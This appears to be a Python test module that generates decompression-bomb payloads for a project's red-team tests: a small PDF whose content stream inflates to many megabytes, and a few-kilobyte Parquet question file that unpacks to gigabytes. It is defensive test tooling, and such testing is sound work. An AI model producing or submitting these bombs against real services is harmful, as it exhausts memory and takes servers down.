"""Red-team payloads that are binary, generated on demand (issue 12): decompression-bomb PDFs and
Parquet question-file bombs. Text payloads live in ``tests/fixtures/attacks/``.

    python -m tests.attacks bomb OUT.pdf [--mb 40]       # write one, to try by hand or in a benchmark
"""

from __future__ import annotations

import argparse
from pathlib import Path

import pymupdf


def bomb_pdf(path: Path, inflated_mb: int = 40, pages: int = 1) -> Path:
    """A small PDF whose page content stream inflates to ``inflated_mb`` MB of text-showing operators.

    Deflate packs the repetitive stream about 300:1, so 40 MB inflates from ~140 KB: the shape of the
    red team's 143 KB file that took the server from 0.5 to 8.4 GB."""
    doc = pymupdf.open()
    # every run of text is set back onto the page (Tm), so each word is kept: millions of words
    line = b"".join(b"1 0 0 1 %d %d Tm (w%d w%d w%d w%d w%d w%d) Tj " % (10 + i % 40 * 13, 40 + i % 70 * 11, *(
        range(i, i + 6))) for i in range(0, 700, 7))
    body = b"BT /F1 4 Tf " + line * (inflated_mb * 2**20 // len(line)) + b"ET"
    for _ in range(pages):
        page = doc.new_page()
        page.insert_text((10, 20), "bomb", fontname="helv")  # gives the page a font resource
        font = doc.xref_get_key(page.xref, "Resources/Font")[1]
        name = font.strip("<>").split("/")[1].split()[0]
        doc.update_stream(page.get_contents()[0], body.replace(b"/F1", b"/" + name.encode()), compress=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    doc.save(path, garbage=0, deflate=False)
    doc.close()
    return path


def parquet_bomb(path: Path, strings: int = 8, mb: int = 256) -> Path:
    """A few-KB Parquet question file whose ``strings`` question texts are ``mb`` MB each once unpacked
    (the red team's was 9 KB holding 8 x 256 MB and took 6.3 GB to read)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    texts = [chr(ord("a") + i) * (mb * 2**20) for i in range(strings)]
    table = pa.table({"id": [f"b{i}" for i in range(strings)], "question": texts})
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path, compression="zstd", use_dictionary=False)
    return path


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="kind", required=True)
    b = sub.add_parser("bomb")
    b.add_argument("out", type=Path)
    b.add_argument("--mb", type=int, default=40)
    args = ap.parse_args()
    path = bomb_pdf(args.out, args.mb)
    print(f"{path}: {path.stat().st_size / 1024:.0f} KB, inflates to {args.mb} MB")


if __name__ == "__main__":
    main()
